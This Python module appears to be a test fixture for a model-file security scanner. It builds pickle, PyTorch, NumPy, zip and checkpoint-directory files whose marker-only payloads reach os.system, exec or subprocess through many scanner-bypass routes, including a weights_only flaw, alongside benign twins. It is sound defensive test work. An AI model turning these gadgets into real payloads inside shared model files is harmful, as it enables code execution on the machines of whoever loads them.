"""Files for the scan bypass classes of issue 32, each with a marker-only payload, and the
ground truth: what a standard loader does with them.

`build(directory)` writes the files and returns the cases (name -> dict):
  file     the path
  cls      the class ("qualified", "nested", "broken", "stacked", "latent", "names",
           "archives", "directories")
  loader   how the ground truth loads it: "pickle" (pickle.load), "pickle2" (pickle.load
           twice: a reader of stacked pickles), "pypickle" (pickle's pure-Python
           Unpickler, as dill and joblib use), "torch" (torch.load(weights_only=False)),
           "numpy" (numpy.load(allow_pickle=True), every npz member), "torch_wo"
           (torch.load(weights_only=True): the latent class, whose ground truth is that
           the fixed loader refuses what torch < 2.10's accepted), "members" (zipfile,
           then torch.load(weights_only=False) of every member that is a checkpoint, as
           whoever unpacks an archive of checkpoints loads them), "dcp" (dcp.load of the
           directory, every entry requested), "hf_index" (torch.load(weights_only=False)
           of every shard a *.bin.index.json names, as transformers < 4.x and accelerate's
           older loaders did), "torch_dir" (torch.load(weights_only=False) of every
           checkpoint file under the directory, links followed: a Hugging Face cache
           snapshot)
  marker   the file the payload creates (hostile cases), or None
  names    what `tseal scan` must name ("module.name" of a finding, or a prefix of it
           ending in '<' for findings that are not globals)
  benign   True for the twins made by the real producers (scan must say safe)

Every payload only creates its marker file (os.system("touch M"), open(M, "w"), exec of
`open(M, 'w').close()`), nothing else.

Usage as a script: `scan_bypass.py CASES.json RESULT.json` loads every case in this
process the way its loader does and writes {name: {"ran": bool, "error": str}}: "ran"
is whether the marker exists afterwards (latent cases: whether weights_only refused it).
"""
from __future__ import annotations

import collections
import hashlib
import io
import json
import os
import pathlib
import pickle
import struct
import sys
import zipfile

# ---- a tiny pickle assembler ---------------------------------------------------------


def s(x: str) -> bytes:  # SHORT_BINUNICODE / BINUNICODE
    b = x.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def g(module: str, name: str) -> bytes:  # STACK_GLOBAL (protocol 4: dotted names walk attributes)
    return s(module) + s(name) + b"\x93"


def u(x: str) -> bytes:  # BINUNICODE, what torch.save's protocol 2 writes
    b = x.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def c(module: str, name: str) -> bytes:  # GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(fn: bytes, *args: bytes) -> bytes:
    return fn + tup(*args) + b"R"


def lst(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def i32(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def stream(body: bytes, proto: int = 4) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def src(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


class Attack:
    """Made by the real pickler: unpickling it runs os.system("touch M")."""
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def npy_object(pickled: bytes) -> bytes:
    """A version-1 .npy of one object element: numpy.load(allow_pickle=True) unpickles it."""
    h = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    h += b" " * ((64 - (10 + len(h) + 1) % 64) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + pickled


def torch_zip(data_pkl: bytes, records=(), prefix="archive") -> bytes:
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        for name, data in records:
            z.writestr(f"{prefix}/{name}", data)
        z.writestr(f"{prefix}/version", b"3\n")
    return b.getvalue()


def torch_zip_named(data_pkl: bytes, name: str) -> bytes:
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr(name, data_pkl)
        z.writestr(name.rsplit("/", 1)[0] + "/version", b"3\n")
    return b.getvalue()


def zip_of(members, method) -> bytes:
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for name, data in members:
            z.writestr(name, data)
    return b.getvalue()


def npy_header(descr: str, version: int = 1) -> bytes:
    """A .npy header with this descr literal (numpy reads it with ast.literal_eval)."""
    h = ("{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr).encode("latin-1" if version < 3 else "utf-8")
    prefix = 10 if version == 1 else 12
    h += b" " * ((64 - (prefix + len(h) + 1) % 64) % 64) + b"\n"
    size = struct.pack("<H", len(h)) if version == 1 else struct.pack("<I", len(h))
    return b"\x93NUMPY" + bytes([version, 0]) + size + h


# ---- the classes ---------------------------------------------------------------------


def qualified(m: str) -> dict:
    """GLOBAL/STACK_GLOBAL names as find_class resolves them: dotted attribute walks,
    private stdlib twins, gadgets reaching exec/system."""
    touch = s(f"touch {m}")
    code = s(src(m))
    return {
        "posix_system": (call(g("posix", "system"), touch), "posix.system"),
        "posixpath_os_system": (call(g("posixpath", "os.system"), touch), "posixpath.os.system"),
        "torch_serialization_os_system": (call(g("torch.serialization", "os.system"), touch),
                                          "torch.serialization.os.system"),
        "cpp_extension_subprocess": (call(g("torch.utils.cpp_extension", "subprocess.call"), lst(s("touch"), s(m))),
                                     "torch.utils.cpp_extension.subprocess.call"),
        "builtins_exec": (call(g("builtins", "exec"), code), "builtins.exec"),
        "builtins_open_call": (call(g("builtins", "open.__call__"), s(m), s("w")), "builtins.open.__call__"),
        "io_open": (call(g("io", "open"), s(m), s("w")), "io.open"),
        "_pyio_open": (call(g("_pyio", "open"), s(m), s("w")), "_pyio.open"),
        "os_open_dotted": (call(g("os", "path.os.open"), s(m), i32(os.O_CREAT | os.O_WRONLY)), "os.path.os.open"),
        "getattr_import_module": (call(call(g("builtins", "getattr"), call(g("importlib", "import_module"), s("os")),
                                            s("system")), touch), "builtins.getattr"),
        "operator_methodcaller": (call(call(g("_operator", "methodcaller"), s("system"), touch),
                                       g("torch.serialization", "os")), "_operator.methodcaller"),
        "functools_partial": (call(call(g("_functools", "partial"), g("builtins", "exec"), code)),
                              "_functools.partial"),
        "pydoc_pipepager": (call(g("pydoc", "pipepager"), s("x"), touch), "pydoc.pipepager"),
        "pydoc_locate": (call(call(g("pydoc", "locate"), s("os.system")), touch), "pydoc.locate"),
        "code_runsource": (call(g("code", "InteractiveInterpreter.runsource"), call(g("code", "InteractiveInterpreter")),
                                code), "code.InteractiveInterpreter.runsource"),
        "timeit_setup": (call(g("timeit", "timeit"), s("pass"), code), "timeit.timeit"),
        "cprofile_run": (call(g("cProfile", "run"), code), "cProfile.run"),
        "profile_runctx": (call(g("profile", "runctx"), code, b"}", b"}"), "profile.runctx"),
        "runpy_run_code": (call(g("runpy", "_run_code"), code, b"}"), "runpy._run_code"),
        "pty_spawn": (call(g("pty", "spawn"), lst(s("touch"), s(m))), "pty.spawn"),
        "numpy_runstring": (call(g("numpy", "testing._private.utils.runstring"), code, b"}"),
                            "numpy.testing._private.utils.runstring"),
        "torch_load_dotted": (None, "torch.serialization.load"),  # filled in by build (needs a file)
    }


def build(d: pathlib.Path) -> dict:
    import numpy as np
    import torch
    d.mkdir(parents=True, exist_ok=True)
    cases: dict = {}

    def add(name, cls, data, loader, names=(), benign=False, marker=None, suffix=".pkl"):
        p = d / f"{cls}-{name}{suffix}"
        p.write_bytes(data)
        cases[f"{cls}/{name}"] = {"file": str(p), "cls": cls, "loader": loader, "marker": marker,
                                  "names": list(names), "benign": benign}

    def mk(name):
        return str(d / f"marker-{name}")

    # qualified names
    for name, (body, want) in qualified("M").items():
        m = mk("q-" + name)
        if name == "torch_load_dotted":
            inner = d / "inner-torch-load.pt"
            torch.save({"x": Attack(m)}, inner, _use_new_zipfile_serialization=False)
            # load(f, map_location, pickle_module): a pickle_module turns weights_only off.
            body = call(g("torch", "serialization.load"), s(str(inner)), b"N", g("torch.serialization", "pickle"))
        else:
            body = dict(qualified(m))[name][0]
        add(name, "qualified", stream(body), "pickle", [want], marker=m)

    # nested payloads through other routes than REDUCE(torch.storage._load_from_bytes)
    def inner(m):
        b = io.BytesIO()
        torch.save({"w": torch.ones(2), "x": Attack(m)}, b, _use_new_zipfile_serialization=False)
        return b.getvalue()
    lfb = g("torch.storage", "_load_from_bytes")
    m = mk("n-dotted")
    add("dotted_name", "nested", stream(call(g("torch", "storage._load_from_bytes"), binbytes(inner(m)))), "pickle",
        ["posix.system"], marker=m)
    m = mk("n-rebuild")
    add("rebuild_from_type_v2", "nested",
        stream(call(g("torch._tensor", "_rebuild_from_type_v2"), lfb, g("torch", "Tensor"), tup(binbytes(inner(m))),
                    b"}")), "pickle", ["posix.system"], marker=m)
    m = mk("n-rebuild2")
    add("rebuild_chain", "nested",
        stream(call(g("torch._tensor", "_rebuild_from_type_v2"), g("torch._tensor", "_rebuild_from_type_v2"),
                    g("torch", "Tensor"), tup(lfb, g("torch", "Tensor"), tup(binbytes(inner(m))), b"}"), b"}")),
        "pickle", ["posix.system"], marker=m)
    m = mk("n-setstate")
    add("ordereddict_setstate", "nested",
        stream(call(g("collections", "OrderedDict")) + b"}" + s("__setstate__") + lfb + b"sb" + binbytes(inner(m))
               + b"b"), "pickle", ["posix.system"], marker=m)
    m = mk("n-append")
    add("counter_append", "nested",
        stream(call(g("collections", "Counter")) + b"}" + s("append") + lfb + b"sb" + binbytes(inner(m)) + b"a"),
        "pickle", ["posix.system"], marker=m)
    m = mk("n-slots")
    add("counter_slotstate_append", "nested",
        stream(call(g("collections", "Counter")) + b"N}" + s("append") + lfb + b"s\x86b" + binbytes(inner(m))
               + b"a"), "pickle", ["posix.system"], marker=m)
    m = mk("n-zip")
    add("dotted_in_torch_zip", "nested",
        torch_zip(stream(call(g("torch", "storage._load_from_bytes"), binbytes(inner(m))), proto=4)), "torch",
        ["posix.system"], marker=m, suffix=".pt")

    m = mk("n-npy")
    add("rebuild_from_type_v2_in_npy", "nested",
        npy_object(stream(call(g("torch._tensor", "_rebuild_from_type_v2"), lfb, g("torch", "Tensor"),
                               tup(binbytes(inner(m))), b"}"))), "numpy", ["posix.system"], marker=m, suffix=".npy")

    # payloads that run before the stream breaks
    m = mk("b-garbage")
    add("reduce_then_garbage", "broken", stream(call(g("posix", "system"), s(f"touch {m}")))[:-1] + b"\xff\xfe\xfd",
        "pickle", ["posix.system"], marker=m)
    m = mk("b-cut")
    add("reduce_then_cut", "broken", stream(call(g("posix", "system"), s(f"touch {m}")) + b"]" + s("x") * 3)[:-3],
        "pickle", ["posix.system"], marker=m)
    m = mk("b-magic")
    add("payload_as_magic", "broken", pickle.dumps(Attack(m), protocol=2) + pickle.dumps(1000, protocol=2), "torch",
        ["posix.system"], marker=m, suffix=".pt")
    m = mk("b-frame")
    body = g("posix", "system") + s(f"touch {m}") + b"\x85R" + b"0" + b"]" + s("y") * 4
    add("truncated_frame", "broken", b"\x80\x04\x95" + struct.pack("<Q", len(body) + 4096) + body, "pypickle",
        ["posix.system"], marker=m)
    m = mk("b-frame-nested")
    body = call(g("torch", "storage._load_from_bytes"), binbytes(inner(m))) + b"0]"
    add("truncated_frame_nested", "broken", b"\x80\x04\x95" + struct.pack("<Q", len(body) + 64) + body, "pypickle",
        ["posix.system"], marker=m)
    m = mk("b-zip")
    add("zip_member_then_garbage", "broken",
        torch_zip(pickle.dumps({"x": Attack(m)}, protocol=2)[:-1] + b"\xff" * 8), "torch", ["posix.system"],
        marker=m, suffix=".pt")

    m = mk("b-npy")
    add("npy_payload_then_garbage", "broken", npy_object(pickle.dumps(Attack(m), protocol=2)[:-1] + b"\xff\xfe"),
        "numpy", ["posix.system"], marker=m, suffix=".npy")

    # stacked pickles
    m = mk("s-two")
    add("benign_then_attack", "stacked", pickle.dumps({"a": 1}, protocol=4) + pickle.dumps(Attack(m), protocol=4),
        "pickle2", ["posix.system"], marker=m)
    m = mk("s-p0")
    add("benign_then_attack_p0", "stacked", pickle.dumps([1, 2], protocol=2) + pickle.dumps(Attack(m), protocol=0),
        "pickle2", ["posix.system"], marker=m)
    m = mk("s-nested")
    add("benign_then_nested", "stacked",
        pickle.dumps({"a": 1}, protocol=2) + stream(call(lfb, binbytes(inner(m)))), "pickle2", ["posix.system"],
        marker=m)

    # latent exploits of torch < 2.10's weights_only unpickler (CVE-2026-24747)
    rebuild = call(c("torch._utils", "_rebuild_tensor_v2"),
                   b"(" + u("storage") + c("torch", "FloatStorage") + u("0") + u("cpu") + b"K\x04t\x51",
                   b"K\x00", tup(b"K\x04"), tup(b"K\x01"), b"\x89", call(c("collections", "OrderedDict")))
    data0 = ("data/0", b"\0" * 16)
    add("setitem_on_tensor", "latent", torch_zip(stream(b"}" + u("w") + rebuild + b"K\x00G?\xf0\x00\x00\x00\x00\x00\x00"
                                                        + b"s" + b"s", proto=2), [data0]),
        "torch_wo", ["<latent>.<SETITEM on a torch._utils._rebuild_tensor_v2 result"], suffix=".pt")
    add("setitems_on_tensor", "latent", torch_zip(stream(b"}" + u("w") + rebuild + b"(K\x00K\x01K\x01K\x02u" + b"s",
                                                         proto=2), [data0]),
        "torch_wo", ["<latent>.<SETITEMS on a torch._utils._rebuild_tensor_v2 result"], suffix=".pt")
    big = rebuild.replace(b"K\x04t\x51", b"J" + struct.pack("<i", 1 << 20) + b"t\x51")
    add("storage_numel_past_record", "latent", torch_zip(stream(b"}" + u("w") + big + b"s", proto=2), [data0]),
        "torch_wo", ["<latent>.<storage '0' declares 1048576 elements"], suffix=".pt")

    g_ = torch.Generator().manual_seed(0)
    sd = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.LayerNorm(2)).state_dict()

    # names and encodings the loaders accept
    p2 = lambda m: pickle.dumps(Attack(m), protocol=2)  # noqa: E731
    m = mk("e-upper")
    add("torch_zip_upper_case_pkl", "names", torch_zip_named(p2(m), "archive/DATA.PKL"), "torch", ["posix.system"],
        marker=m, suffix=".pt")
    m = mk("e-p0")
    add("torch_zip_protocol0", "names", torch_zip(pickle.dumps(Attack(m), protocol=0)), "torch", ["posix.system"],
        marker=m, suffix=".pt")
    m = mk("e-p1")
    add("torch_zip_protocol1", "names", torch_zip(pickle.dumps(Attack(m), protocol=1)), "torch", ["posix.system"],
        marker=m, suffix=".pt")
    for name, member, method in (("npz_member_without_suffix", "x", zipfile.ZIP_STORED),
                                 ("npz_member_upper_case", "X.NPY", zipfile.ZIP_STORED),
                                 ("npz_member_bzip2", "x.npy", zipfile.ZIP_BZIP2),
                                 ("npz_member_lzma", "x.npy", zipfile.ZIP_LZMA),
                                 ("npz_member_deflated", "x.npy", zipfile.ZIP_DEFLATED)):
        m = mk("e-" + name)
        add(name, "names", zip_of([(member, npy_object(p2(m)))], method), "numpy", ["posix.system"], marker=m,
            suffix=".npz")
    for name, descr, version in (("npy_descr_object", "'object'", 1), ("npy_descr_object_underscore", "'object_'", 1),
                                 ("npy_descr_O8", "'<O8'", 1), ("npy_descr_struct", "[('a', '<i4'), ('b', '|O')]", 1),
                                 ("npy_descr_subarray", "('|O', (2,))", 1), ("npy_descr_comma", "'i4,O'", 1),
                                 ("npy_descr_escaped", "'\\x4f'", 1), ("npy_descr_nested_struct",
                                                                      "[('s', [('o', 'O')])]", 2),
                                 ("npy_version3_header", "[('\u00e9', '|O')]", 3), ("npy_descr_utf8_v3", "'O'", 3)):
        m = mk("e-" + name)
        add(name, "names", npy_header(descr, version) + p2(m), "numpy", ["posix.system"], marker=m, suffix=".npy")
    m = mk("e-torch-npz")
    b = io.BytesIO()
    torch.save(sd, b)
    with zipfile.ZipFile(b, "a") as z:
        z.writestr("x.npy", npy_object(p2(m)))
    add("torch_zip_that_is_an_npz", "names", b.getvalue(), "numpy", ["posix.system"], marker=m, suffix=".pt")

    # archives inside archives
    def torch_save_bytes(obj, **kw):
        b = io.BytesIO()
        torch.save(obj, b, **kw)
        return b.getvalue()
    m = mk("a-zip")
    add("torch_file_in_zip", "archives", zip_of([("model.pt", torch_save_bytes({"x": Attack(m)}))],
                                                zipfile.ZIP_STORED), "members", ["posix.system"], marker=m, suffix=".zip")
    m = mk("a-zip-deflated")
    add("legacy_file_in_deflated_zip", "archives",
        zip_of([("model.pt", torch_save_bytes({"x": Attack(m)}, _use_new_zipfile_serialization=False))],
               zipfile.ZIP_DEFLATED), "members", ["posix.system"], marker=m, suffix=".zip")
    m = mk("a-npz")
    b = io.BytesIO()
    np.savez(b, w=np.ones(3, np.float32))
    with zipfile.ZipFile(b, "a") as z:  # the checkpoint as a member of its own, as a user adds one
        z.writestr("model.pt", torch_save_bytes({"x": Attack(m)}))
    add("torch_file_in_npz", "archives", b.getvalue(), "members", ["posix.system"], marker=m, suffix=".npz")
    m = mk("a-deep")
    add("zip_in_zip_in_zip", "archives",
        zip_of([("outer.zip", zip_of([("model.pt", torch_save_bytes({"x": Attack(m)}))], zipfile.ZIP_STORED))],
               zipfile.ZIP_DEFLATED), "members", ["posix.system"], marker=m, suffix=".zip")

    # their benign twins, made by the real producers
    rec = np.array([(1, 2.5, b"ab"), (3, -1.0, b"cd")], dtype=[("id", "<i4"), ("x", "<f8"), ("tag", "S2")])
    for name, save in (("npy_structured", lambda f: np.save(f, rec)),
                       ("npy_subarray_struct", lambda f: np.save(f, np.zeros(2, dtype=[("v", "<f4", (3,))]))),
                       ("npy_version3_struct", lambda f: np.save(f, np.zeros(2, dtype=[("\u540d", "<f4")])))):
        b = io.BytesIO()
        save(b)
        add(name, "names", b.getvalue(), "numpy", benign=True, suffix=".npy")
    for name, save in (("npz_structured", lambda f: np.savez(f, r=rec, w=np.ones(3))),
                       ("npz_compressed", lambda f: np.savez_compressed(f, w=np.arange(100.0), r=rec))):
        b = io.BytesIO()
        save(b)
        add(name, "names", b.getvalue(), "numpy", benign=True, suffix=".npz")
    one = io.BytesIO()
    np.save(one, np.arange(12, dtype=np.int16))
    for name, member, method in (("npz_member_without_suffix", "x", zipfile.ZIP_STORED),
                                 ("npz_member_bzip2", "x.npy", zipfile.ZIP_BZIP2),
                                 ("npz_member_lzma", "x.npy", zipfile.ZIP_LZMA)):
        add(name + "_benign", "names", zip_of([(member, one.getvalue())], method), "numpy", benign=True, suffix=".npz")
    # (torch.load cannot read torch.save's protocol-0 files: its persistent ids come back as str)
    add("torch_save_protocol1", "names", torch_save_bytes(sd, pickle_protocol=1), "torch", benign=True, suffix=".pt")
    add("torch_file_in_zip_benign", "archives", zip_of([("model.pt", torch_save_bytes(sd))], zipfile.ZIP_STORED),
        "members", benign=True, suffix=".zip")
    add("legacy_file_in_deflated_zip_benign", "archives",
        zip_of([("model.pt", torch_save_bytes(sd, _use_new_zipfile_serialization=False))], zipfile.ZIP_DEFLATED),
        "members", benign=True, suffix=".zip")
    b = io.BytesIO()
    np.savez(b, w=np.ones(3, np.float32))
    with zipfile.ZipFile(b, "a") as z:
        z.writestr("model.pt", torch_save_bytes(sd))
    add("torch_file_in_npz_benign", "archives", b.getvalue(), "members", benign=True, suffix=".npz")

    directories(d, cases, mk, sd)

    # benign twins, made by the real producers
    plain = {"a": [1, 2.5, None, True], "b": (3, "x", b"raw"), "c": {1, 2}, "d": frozenset([3]),
             "e": collections.OrderedDict(k=1), "f": bytearray(b"z"), "g": 1 + 2j, "h": 1 << 80}
    for proto in range(6):
        add(f"plain_p{proto}", "qualified", pickle.dumps(plain, protocol=proto), "pickle", benign=True)
    for proto in (2, 4, 5):
        add(f"state_dict_pickle_p{proto}", "nested", pickle.dumps(sd, protocol=proto), "pickle", benign=True)
    t = torch.randn(4, generator=g_)
    t.note = "attr"  # _rebuild_from_type_v2(_rebuild_tensor_v2, Tensor, ..., {'note': ...})
    add("tensor_with_attr_pickle", "nested", pickle.dumps({"t": t, "p": torch.nn.Parameter(torch.ones(2))}, protocol=2),
        "pickle", benign=True)
    b = io.BytesIO()
    torch.save({"t": t}, b)
    add("tensor_with_attr_torch_save", "nested", b.getvalue(), "torch", benign=True, suffix=".pt")
    b = io.BytesIO()
    torch.save(sd, b, _use_new_zipfile_serialization=False)
    add("legacy_torch_save", "broken", b.getvalue(), "torch", benign=True, suffix=".pt")
    add("legacy_torch_save", "stacked", b.getvalue(), "torch", benign=True, suffix=".pt")
    b = io.BytesIO()
    torch.save(sd, b)
    add("torch_save", "broken", b.getvalue(), "torch", benign=True, suffix=".pt")
    add("torch_save", "latent", b.getvalue(), "torch_wo", benign=True, suffix=".pt")
    add("framed_p4", "broken", pickle.dumps({f"k{i}": list(range(50)) for i in range(400)}, protocol=4), "pickle",
        benign=True)
    add("framed_p5", "broken", pickle.dumps([np.arange(6.0), "x" * 70000], protocol=5), "pickle", benign=True)
    add("two_dumps", "stacked", pickle.dumps({"a": 1}, protocol=4) + pickle.dumps([2, (3,)], protocol=2), "pickle2",
        benign=True)
    add("dump_then_newline", "stacked", pickle.dumps(sd, protocol=4) + b"\n", "pickle", benign=True)
    b = io.BytesIO()
    np.save(b, np.array([{"a": 1}, [2, 3], None], dtype=object), allow_pickle=True)
    add("npy_object", "stacked", b.getvalue(), "numpy", benign=True, suffix=".npy")
    b = io.BytesIO()
    np.save(b, np.arange(10, dtype=np.float32))
    add("npy_plain", "qualified", b.getvalue(), "numpy", benign=True, suffix=".npy")
    add("counter_pickle", "latent", pickle.dumps({"c": collections.Counter("abca"), "sd": sd}, protocol=2), "pickle",
        benign=True)
    return cases


class LoadFromBytes:
    """Pickles as torch.storage._load_from_bytes(payload): a gadget torch's allowlist has."""
    def __init__(self, payload: bytes):
        self.payload = payload

    def __reduce__(self):
        import torch.storage
        return (torch.storage._load_from_bytes, (self.payload,))


def _dcp_save(state: dict, path: pathlib.Path, raw_pickle_items: bool = False):
    """dcp.save in this process (no process group), BYTE_IO items as torch.save writes
    them, or, with raw_pickle_items, as a planner that pickles them (DCP's own
    DefaultSavePlanner.transform_object extension point)."""
    import torch.distributed.checkpoint as dcp
    from torch.distributed.checkpoint.default_planner import DefaultSavePlanner

    class PicklingPlanner(DefaultSavePlanner):
        def transform_object(self, write_item, object):
            from torch.distributed.checkpoint.planner import WriteItemType
            if write_item.type == WriteItemType.BYTE_IO:
                return io.BytesIO(pickle.dumps(object, protocol=2))
            return super().transform_object(write_item, object)

    dcp.save(state, checkpoint_id=str(path), planner=PicklingPlanner() if raw_pickle_items else None)


def _rewrite_metadata(path: pathlib.Path, change) -> None:
    """The directory's .metadata loaded, changed and pickled back as DCP writes it."""
    meta = path / ".metadata"
    with open(meta, "rb") as f:
        md = pickle.load(f)
    change(md)
    with open(meta, "wb") as f:
        pickle.dump(md, f)


def directories(d: pathlib.Path, cases: dict, mk, sd: dict) -> None:
    """Directory layouts: DCP items a loader reaches through .metadata, HF shards in
    subdirectories, a Hugging Face cache snapshot (links into blobs/)."""
    import json
    import shutil
    import torch

    def add(name, path, loader, names=(), benign=False, marker=None):
        cases[f"directories/{name}"] = {"file": str(path), "cls": "directories", "loader": loader, "marker": marker,
                                        "names": list(names), "benign": benign}

    def inner(m):
        b = io.BytesIO()
        torch.save({"x": Attack(m)}, b, _use_new_zipfile_serialization=False)
        return b.getvalue()

    w = {"w": torch.arange(6.0).reshape(2, 3)}
    m = mk("d-byteio-raw")
    p = d / "dcp-byteio-raw-pickle"
    _dcp_save({**w, "extra": Attack(m)}, p, raw_pickle_items=True)
    add("dcp_byteio_item_raw_pickle", p, "dcp", ["posix.system"], marker=m)

    m = mk("d-byteio-zip")
    p = d / "dcp-byteio-torch-save"
    _dcp_save({**w, "extra": Attack(m)}, p)
    add("dcp_byteio_item_torch_save", p, "dcp", ["posix.system"], marker=m)

    m = mk("d-subdir")
    p = d / "dcp-items-in-subdir"
    _dcp_save({**w, "extra": Attack(m)}, p, raw_pickle_items=True)
    (p / "data").mkdir()
    for f in p.glob("*.distcp"):
        f.rename(p / "data" / (f.stem + ".bin"))

    def move(md):
        for info in md.storage_data.values():
            info.relative_path = "data/" + info.relative_path.replace(".distcp", ".bin")
    _rewrite_metadata(p, move)
    add("dcp_items_in_subdir_other_extension", p, "dcp", ["posix.system"], marker=m)

    m = mk("d-metadata-gadget")
    p = d / "dcp-metadata-gadget"
    _dcp_save(dict(w), p)

    def gadget(md):
        md.planner_data = LoadFromBytes(inner(m))
    _rewrite_metadata(p, gadget)
    add("dcp_metadata_load_from_bytes", p, "dcp", ["posix.system"], marker=m)

    # HF .bin shards in a subdirectory, named by the index
    from huggingface_hub import save_torch_state_dict
    m = mk("d-shards")
    p = d / "hf-shards-subdir"
    p.mkdir()
    big = {f"layer{i}.weight": torch.full((64, 64), float(i)) for i in range(4)}
    save_torch_state_dict(big, p, safe_serialization=False, max_shard_size="40KB")
    index = json.loads((p / "pytorch_model.bin.index.json").read_text())
    (p / "weights").mkdir()
    shards = sorted(set(index["weight_map"].values()))
    for f in shards:
        (p / f).rename(p / "weights" / f)
    index["weight_map"] = {k: "weights/" + v for k, v in index["weight_map"].items()}
    (p / "pytorch_model.bin.index.json").write_text(json.dumps(index, indent=2))
    last = p / "weights" / shards[-1]
    state = torch.load(last, weights_only=True)
    torch.save({**state, "_note": Attack(m)}, last)
    add("hf_bin_shard_in_subdirectory", p, "hf_index", ["posix.system"], marker=m)

    # A Hugging Face cache repository: snapshots/<rev>/ links into blobs/
    m = mk("d-hub")
    repo = d / "hub" / "models--org--tiny"
    blob = io.BytesIO()
    torch.save({**w, "x": Attack(m)}, blob)
    digest = hashlib.sha256(blob.getvalue()).hexdigest()
    (repo / "blobs").mkdir(parents=True)
    (repo / "blobs" / digest).write_bytes(blob.getvalue())
    (repo / "blobs" / "cfg").write_text('{"model_type": "tiny"}')
    snap = repo / "snapshots" / ("a" * 40)
    snap.mkdir(parents=True)
    (snap / "pytorch_model.bin").symlink_to(pathlib.Path("..") / ".." / "blobs" / digest)
    (snap / "config.json").symlink_to(pathlib.Path("..") / ".." / "blobs" / "cfg")
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text("a" * 40)
    add("hub_cache_snapshot", snap, "torch_dir", ["posix.system"], marker=m)
    add("hub_cache_repository", repo, "torch_dir", ["posix.system"], marker=m)

    # benign twins
    p = d / "dcp-benign"
    _dcp_save({**w, "step": 3, "cfg": {"lr": 0.1, "betas": (0.9, 0.99)}}, p)
    add("dcp_with_byteio_items", p, "dcp", benign=True)
    p = d / "dcp-benign-subdir"
    _dcp_save({**w, "step": 3}, p)
    (p / "data").mkdir()
    for f in p.glob("*.distcp"):
        f.rename(p / "data" / (f.stem + ".bin"))
    _rewrite_metadata(p, move)
    add("dcp_items_in_subdir", p, "dcp", benign=True)
    p = d / "hf-shards-benign"
    p.mkdir()
    save_torch_state_dict(big, p, safe_serialization=False, max_shard_size="40KB")
    add("hf_bin_shards", p, "hf_index", benign=True)
    brepo = d / "hub-benign" / "models--org--tiny"
    shutil.copytree(repo, brepo, symlinks=True)
    b = io.BytesIO()
    torch.save(sd, b)
    (brepo / "blobs" / digest).write_bytes(b.getvalue())
    add("hub_cache_snapshot_benign", brepo / "snapshots" / ("a" * 40), "torch_dir", benign=True)


# ---- the ground truth ------------------------------------------------------------------


def _load(case: dict):
    f, loader = case["file"], case["loader"]
    if loader == "pickle":
        with open(f, "rb") as fh:
            return pickle.load(fh)
    if loader == "pickle2":
        with open(f, "rb") as fh:
            return [pickle.load(fh), pickle.load(fh)]
    if loader == "pypickle":
        with open(f, "rb") as fh:
            return pickle._Unpickler(fh).load()
    import torch
    if loader == "torch":
        return torch.load(f, weights_only=False)
    if loader == "torch_wo":
        return torch.load(f, weights_only=True)
    if loader == "members":
        out = {}
        with zipfile.ZipFile(f) as z:
            stack = [(z, "")]
            while stack:
                zf, prefix = stack.pop()
                for name in zf.namelist():
                    data = zf.read(name)
                    if data[:4] == b"PK\x03\x04" and not name.endswith(".pt"):
                        stack.append((zipfile.ZipFile(io.BytesIO(data)), prefix + name + "/"))
                    elif name.endswith(".pt"):
                        out[prefix + name] = torch.load(io.BytesIO(data), weights_only=False)
        return out
    if loader == "dcp":
        import torch.distributed.checkpoint as dcp
        from torch.distributed.checkpoint import FileSystemReader
        from torch.distributed.checkpoint.metadata import BytesStorageMetadata
        md = FileSystemReader(f).read_metadata()
        state = {k: None if isinstance(v, BytesStorageMetadata) else torch.empty(v.size, dtype=v.properties.dtype)
                 for k, v in md.state_dict_metadata.items()}
        dcp.load(state, checkpoint_id=f)
        return state
    if loader == "hf_index":
        import json
        index = json.loads((pathlib.Path(f) / "pytorch_model.bin.index.json").read_text())
        return {s: torch.load(pathlib.Path(f) / s, weights_only=False) for s in sorted(set(index["weight_map"].values()))}
    if loader == "torch_dir":
        return {str(p): torch.load(p, weights_only=False) for p in sorted(pathlib.Path(f).rglob("*.bin"))
                if "blobs" not in p.parts}
    if loader == "numpy":
        import numpy as np
        r = np.load(f, allow_pickle=True)
        return {k: r[k] for k in r.files} if hasattr(r, "files") else r
    raise ValueError(loader)


def ground_truth(cases: dict) -> dict:
    out = {}
    for name, case in cases.items():
        error = ""
        try:
            _load(case)
        except BaseException as e:  # noqa: BLE001 - the loader's own failure is data here
            error = f"{type(e).__name__}: {str(e)[:200]}"
        if case["loader"] == "torch_wo":
            ran = bool(error) if not case["benign"] else False
        else:
            ran = bool(case["marker"]) and os.path.exists(case["marker"])
        out[name] = {"ran": ran, "error": error}
    return out


if __name__ == "__main__":
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    cases = json.loads(pathlib.Path(sys.argv[1]).read_text())
    pathlib.Path(sys.argv[2]).write_text(json.dumps(ground_truth(cases)))
